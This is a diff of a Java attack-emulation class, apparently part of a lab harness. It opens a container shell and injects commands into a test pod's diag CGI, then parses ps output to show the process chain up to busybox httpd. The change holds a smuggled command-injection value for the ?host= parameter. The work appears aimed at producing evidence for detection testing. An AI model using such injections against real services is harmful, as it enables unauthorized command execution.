@@ -8,16 +8,16 @@ import java.time.Duration;
  * {@code shell}: an interactive shell with a terminal in the source container ({@code runc exec
  * -t … /bin/sh -i}, as {@code kubectl exec -it} does) running a few commands; then a shell spawned
  * by a server: a request from the frontend injects a command into the api's diag CGI, so busybox
- * httpd runs the CGI script, which runs {@code sh -c "nslookup …;id;uname -a"}. The effects:
- * {@code tty} in the shell names a pseudo-terminal, and the injected {@code id} answers as the
- * httpd's user (www-data).
+ * httpd runs the CGI script, which runs {@code sh -c "nslookup …;id;ps …;true"}. The effects:
+ * {@code tty} in the shell names a pseudo-terminal; the injected {@code id} answers as the httpd's
+ * user (www-data), and the injected {@code ps} shows the shell's parents up to httpd.
  */
 final class Shell implements Technique {
 
     /** The commands typed into the interactive shell. */
     static final String TYPED = "tty\nid\nhostname\nls /\nexit\n";
-    /** The injected value of {@code ?host=}. */
-    static final String INJECTION = "www.example.test;id;uname -a";
+    /** The injected value of {@code ?host=}: who am I, and the process table to show who spawned the shell. */
+    static final String INJECTION = "www.example.test;id;ps -o pid,ppid,comm,args;true";
 
     @Override
     public void perform(AttackRun run) throws Exception {
@@ -36,10 +36,35 @@ final class Shell implements Technique {
                 + URLEncoder.encode(INJECTION, StandardCharsets.UTF_8).replace("+", "%20");
         AttackRun.Ran injected = run.command(client, curl, "-s", "-m", "10", url)
                 .run("inject a command into " + api.pod().name() + "'s diag CGI: " + url);
-        run.check(injected.stdout().contains("uid=33(www-data)"),
+        run.check(injected.stdout().contains("uid=33(www-data)") && chain(injected.stdout()).contains("httpd"),
                 "the diag CGI of " + api.pod().name() + " did not run the injected id: " + injected.stdout());
-        run.evidence("busybox httpd in " + api + " ran the injected commands through sh -c: "
-                + firstLineWith(injected.stdout(), "uid="));
+        run.evidence("busybox httpd in " + api + " ran the injected commands through sh -c as "
+                + firstLineWith(injected.stdout(), "uid=") + "; process chain: " + chain(injected.stdout()));
+    }
+
+    /**
+     * The ancestry of the injected shell from busybox {@code ps -o pid,ppid,comm,args} output:
+     * {@code pid comm args} of each process from the container's init down to {@code sh -c}.
+     */
+    static String chain(String ps) {
+        java.util.Map<String, String[]> byPid = new java.util.HashMap<>();
+        String shell = null;
+        for (String line : ps.lines().toList()) {
+            String[] f = line.strip().split("\\s+", 4);
+            if (f.length == 4 && f[0].matches("\\d+")) {
+                f[3] = f[3].replaceFirst("^\\{[^}]*} ", "");
+                byPid.put(f[0], f);
+                if (f[3].startsWith("sh -c nslookup")) {
+                    shell = f[0];
+                }
+            }
+        }
+        java.util.List<String> chain = new java.util.ArrayList<>();
+        for (String pid = shell; pid != null && byPid.containsKey(pid) && chain.size() < byPid.size(); pid = byPid.get(pid)[1]) {
+            String[] f = byPid.get(pid);
+            chain.addFirst(f[0] + " " + f[2] + " (" + f[3] + ")");
+        }
+        return chain.isEmpty() ? "(sh -c not in the process table)" : String.join(" -> ", chain);
     }
 
     static String firstLineWith(String text, String marker) {
